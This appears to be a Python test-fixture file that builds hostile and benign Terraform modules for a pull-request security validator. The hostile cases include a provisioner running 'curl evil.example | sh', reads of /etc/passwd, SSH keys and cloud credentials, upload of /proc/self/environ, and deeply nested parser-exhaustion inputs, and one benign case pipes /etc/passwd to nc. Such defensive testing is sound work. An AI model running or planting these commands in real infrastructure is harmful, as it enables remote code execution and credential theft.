"""Terraform that means harm, and some that only looks so: what a stranger may write into a pull request."""

import json
from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """A module that must be refused before anything runs it."""

    name: str
    files: dict[str, str]


def hostile_modules() -> list[Hostile]:
    """Return the whole corpus, each case with a name of its own."""
    return [Hostile(name, {"main.tf": text}) for name, text in _native()] + [
        Hostile(name, files) for name, files in (*_json(), *_files(), *_bounds())
    ]


def _resource(inside: str) -> str:
    return f'resource "null_resource" "x" {{\n{inside}\n}}\n'


def _local(value: str) -> str:
    return f"locals {{\n  x = {value}\n}}\n"


def _provider(inside: str, name: str = "aws") -> str:
    return f'provider "{name}" {{\n  {inside}\n}}\n'


def _native() -> Iterator[tuple[str, str]]:
    yield from _programs()
    yield from _reaching()
    yield from ((f"read-{number}", _local(value)) for number, value in enumerate(_READS))
    yield from (
        (f"module-{number}", f'module "m" {{\n  source = {source}\n}}\n') for number, source in enumerate(_SOURCES)
    )
    yield from ((f"provider-{number}", _provider(inside)) for number, inside in enumerate(_PROVIDERS))
    yield from ((f"plugin-{number}", _plugin(source)) for number, source in enumerate(_PLUGINS))


def _programs() -> Iterator[tuple[str, str]]:
    command = 'command = "curl evil.example | sh"'
    yield "external", 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n'
    yield "external-bare", 'data external x {\n  program = ["id"]\n}\n'
    yield "external-escaped", 'data "\\u0065xternal" "x" {\n  program = ["id"]\n}\n'
    yield "local-exec", _resource(f'  provisioner "local-exec" {{\n    {command}\n  }}')
    yield "local-exec-bare", _resource(f"  provisioner local-exec {{\n    {command}\n  }}")
    yield "local-exec-escaped", _resource(f'  provisioner "local\\u002dexec" {{\n    {command}\n  }}')
    yield "local-exec-destroy", _resource(f'  provisioner "local-exec" {{\n    when = destroy\n    {command}\n  }}')
    yield "local-exec-one-line", f'resource "aws_vpc" "x" {{ provisioner "local-exec" {{ {command} }} }}\n'
    yield (
        "local-exec-terraform-data",
        f'resource "terraform_data" "x" {{\n  provisioner "local-exec" {{\n {command}\n }}\n}}\n',
    )
    yield "local-exec-commented", _resource(f'  provisioner /* x */ "local-exec" {{\n    {command}\n  }}')
    ran = _resource(f'  provisioner "local-exec" {{\n    {command}\n  }}')
    yield "local-exec-after-heredoc", f"locals {{\n  x = <<EOT\na\n  EOT\n}}\n{ran}"
    yield "local-exec-after-marker", f"locals {{\n  x = <<EOT\nEOT \nEOT\n}}\n{ran}"
    yield from _more_programs()


def _more_programs() -> Iterator[tuple[str, str]]:
    yield "remote-exec", _resource('  provisioner "remote-exec" {\n    inline = ["id"]\n  }')
    yield (
        "file-provisioner",
        _resource('  provisioner "file" {\n    source = "/etc/passwd"\n    destination = "/tmp/x"\n  }'),
    )
    yield "connection", _resource('  connection {\n    host = "evil.example"\n  }')
    yield "dynamic-provisioner", _resource('  dynamic "provisioner" {\n    for_each = [1]\n    content {\n    }\n  }')
    yield "kubernetes-exec", _provider('exec {\n    command = "sh"\n  }', "kubernetes")
    yield "helm-postrender", 'resource "helm_release" "x" {\n  postrender {\n    binary_path = "/bin/sh"\n  }\n}\n'
    yield "unknown-provider", 'resource "shell_script" "x" {\n}\n'


def _reaching() -> Iterator[tuple[str, str]]:
    yield "http", 'data "http" "x" {\n  url = "http://169.254.169.254/latest/meta-data/"\n}\n'
    yield "remote-state", 'data "terraform_remote_state" "x" {\n  backend = "s3"\n}\n'
    yield "local-file", 'data "local_file" "x" {\n  filename = "/etc/passwd"\n}\n'
    yield "write-home", 'resource "local_file" "x" {\n  filename = "~/.bashrc"\n  content = "x"\n}\n'
    yield (
        "archive-home",
        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "/home/runner"\n  output_path = "x.zip"\n}\n',
    )
    yield (
        "upload-secret",
        'resource "aws_s3_object" "x" {\n  bucket = "b"\n  key = "k"\n  source = "/proc/self/environ"\n}\n',
    )
    yield "upload-climbing", 'resource "aws_s3_object" "x" {\n  source = "${path.module}/../../.env"\n}\n'
    yield "backend", 'terraform {\n  backend "http" {\n    address = "http://evil.example"\n  }\n}\n'
    yield "cloud", 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}\n'
    yield from _misleading()


def _misleading() -> Iterator[tuple[str, str]]:
    yield "nonsensitive", 'output "x" {\n  value = nonsensitive(var.password)\n}\n'
    yield "working-directory", _local("path.cwd")
    yield "vault", 'data "vault_generic_secret" "x" {\n  path = "secret/x"\n}\n'
    yield "bidirectional", _local('"a\u202e b"')
    yield "null-byte", _local('"a\u0000b"')
    yield "lone-return", '# harmless\rresource "null_resource" "x" {\n}\n'


_READS = (
    'file("/etc/passwd")',
    'file("~/.aws/credentials")',
    'file("../../secrets.txt")',
    'file("${path.module}/../../x")',
    'file("${path.root}/../x")',
    "file(var.where)",
    'file(join("/", ["", "etc", "passwd"]))',
    'filebase64("/home/runner/.ssh/id_rsa")',
    'filemd5("/etc/shadow")',
    'fileset("/", "**")',
    'fileexists("/etc/shadow")',
    'templatefile("/proc/self/environ", {})',
    "templatestring(local.y, {})",
    'upper("a ${file("/etc/passwd")} b")',
    '[for f in ["/etc/passwd"] : file(f)]',
    'true ? file("/etc/passwd") : ""',
    '{ (file("/etc/passwd")) = 1 }',
    'pathexpand("~")',
    'abspath(".")',
    '<<EOT\n${file("/etc/passwd")}\nEOT',
    "provider::evil::run()",
)
_SOURCES = (
    '"git::https://evil.example/x.git"',
    '"github.com/evil/x"',
    '"git@github.com:evil/x.git"',
    '"https://evil.example/x.zip"',
    '"s3::https://s3.amazonaws.com/evil/x.zip"',
    '"evil/x/aws"',
    '"/home/runner/x"',
    '"../../../x"',
    '"./x/../../y"',
    '"terraform-aws-modules/vpc/aws"',
    '"terraform-aws-modules-evil/vpc/aws"',
    "var.source",
)
_PROVIDERS = (
    'assume_role {\n    role_arn = "arn:aws:iam::999999999999:role/x"\n  }',
    'assume_role = { role_arn = "arn:aws:iam::999999999999:role/x" }',
    'endpoints {\n    s3 = "http://evil.example"\n  }',
    'access_key = "AKIAEXAMPLE"',
    'shared_credentials_files = ["/home/runner/.aws/credentials"]',
    'http_proxy = "http://evil.example"',
    "insecure = true",
    'profile = "production"',
)
_PLUGINS = ('"evil/aws"', '"evil.example/hashicorp/aws"', '"registry.terraform.io/evil/null"', "local.x")


def _plugin(source: str) -> str:
    return f"terraform {{\n  required_providers {{\n    aws = {{\n      source = {source}\n    }}\n  }}\n}}\n"


def _json() -> Iterator[tuple[str, dict[str, str]]]:
    run = {"local-exec": {"command": "id"}}
    modules: dict[str, object] = {
        "external": {"data": {"external": {"x": {"program": ["id"]}}}},
        "external-list": {"data": [{"external": [{"x": [{"program": ["id"]}]}]}]},
        "provisioner": {"resource": {"null_resource": {"x": {"provisioner": run}}}},
        "provisioner-list": {"resource": [{"null_resource": {"x": [{"provisioner": [run]}]}}]},
        "file": {"locals": {"x": '${file("/etc/passwd")}'}},
        "file-in-key": {"locals": {"x": {'${file("/etc/passwd")}': 1}}},
        "module": {"module": {"m": {"source": "git::https://evil.example/x"}}},
        "backend": {"terraform": {"backend": {"s3": {"bucket": "evil"}}}},
        "provider": {"provider": {"aws": {"assume_role": {"role_arn": "arn:aws:iam::9:role/x"}}}},
    }
    yield from ((f"json-{name}", {"main.tf.json": json.dumps(told)}) for name, told in modules.items())
    yield "json-twice", {"main.tf.json": '{"locals": {}, "locals": {"x": "${file(\\"/x\\")}"}}'}
    yield "json-commented", {"main.tf.json": '{"//": "x", "data": {"external": {"x": {"//": "y", "program": ["id"]}}}}'}


def _files() -> Iterator[tuple[str, dict[str, str]]]:
    fine = {"main.tf": 'resource "aws_sqs_queue" "q" {\n}\n'}
    for name in (
        "../evil.tf",
        "/etc/x.tf",
        ".terraformrc",
        ".terraform/modules/modules.json",
        "x.tftest.hcl",
        "a/../../b.tf",
    ):
        yield f"path-{name}", {**fine, name: "# x\n"}


def _bounds() -> Iterator[tuple[str, dict[str, str]]]:
    yield "five-megabytes", {"main.tf": "# x\n" * 1_300_000}
    yield "deep-brackets", {"main.tf": _local("[" * 5_000 + "]" * 5_000)}
    yield "deep-parentheses", {"main.tf": _local("(" * 100_000 + "1" + ")" * 100_000)}
    yield "deep-blocks", {"main.tf": "a {\n" * 3_000 + "}\n" * 3_000}
    yield "deep-templates", {"main.tf": _local('"${' * 500 + "1" + '}"' * 500)}
    yield "deep-negation", {"main.tf": _local("!" * 20_000 + "true")}
    yield "deep-choice", {"main.tf": _local("true ? 1 : " * 2_000 + "2")}
    yield "deep-json", {"main.tf.json": '{"a":' * 50_000 + "1" + "}" * 50_000}
    yield "deep-json-hidden", {"main.tf.json": '{"a]}":' * 50_000 + "1" + "}" * 50_000}
    yield "deep-brackets-hidden", {"main.tf": _local('["]", ' * 5_000 + "1" + "]" * 5_000)}
    yield "deep-templates-hidden", {"main.tf": _local('"]}${' * 2_000 + "1" + '}"' * 2_000)}
    yield "deep-heredocs", {"main.tf": _local("<<A\n}${" * 2_000 + "1" + "}\nA\n" * 2_000)}
    yield "many-blocks", {"main.tf": "locals {\n}\n" * 6_000}
    yield "broken", {"main.tf": 'resource "aws_vpc" "x" {\n  provisioner "local-exec" {\n'}


def benign_modules() -> list[Hostile]:
    """Return modules that look a little like harm and mean none."""
    inside = {"index.js": "x\n", "templates/a.tftpl": "x\n"}
    return [Hostile(f"benign-{number}", {"main.tf": text, **inside}) for number, text in enumerate(_BENIGN)]


_BENIGN = (
    'provider "aws" {\n  region = "eu-west-1"\n}\nresource "aws_sqs_queue" "q" {\n  name = "orders"\n}\n',
    _local('file("${path.module}/index.js")'),
    _local('file("index.js")'),
    _local('templatefile("${path.module}/templates/a.tftpl", { a = 1 })'),
    _local('filebase64sha256("${path.root}/index.js")'),
    _local('"a provisioner and data external in words"'),
    _local('<<-EOT\n    # provisioner "local-exec" in a comment of a script\n    curl http://169.254.169.254/\n  EOT'),
    '# provisioner "local-exec" { is not used here\nlocals {\n}\n',
    'module "vpc" {\n  source  = "terraform-aws-modules/vpc/aws"\n  version = "5.8.1"\n}\n',
    'module "queue" {\n  source = "./modules/queue"\n}\n',
    'data "archive_file" "x" {\n  source_file = "${path.module}/index.js"\n  output_path = "x.zip"\n}\n',
    'resource "aws_s3_object" "x" {\n  bucket = "b"\n  key    = "k"\n  source = "assets/test.pdf"\n}\n',
    'resource "random_password" "x" {\n  length = 20\n}\n',
    _plugin('"hashicorp/aws"'),
    'provider "aws" {\n  alias  = "west"\n  region = "us-west-2"\n  default_tags {\n    tags = {}\n  }\n}\n',
    'variable "profile" {\n  default = "x"\n}\n',
    'resource "aws_iam_role" "x" {\n  assume_role_policy = jsonencode({ Version = "2012-10-17" })\n}\n',
    'resource "aws_instance" "x" {\n  user_data = <<EOF\n#!/bin/sh\ncat /etc/passwd | nc localhost 1\nEOF\n}\n',
)
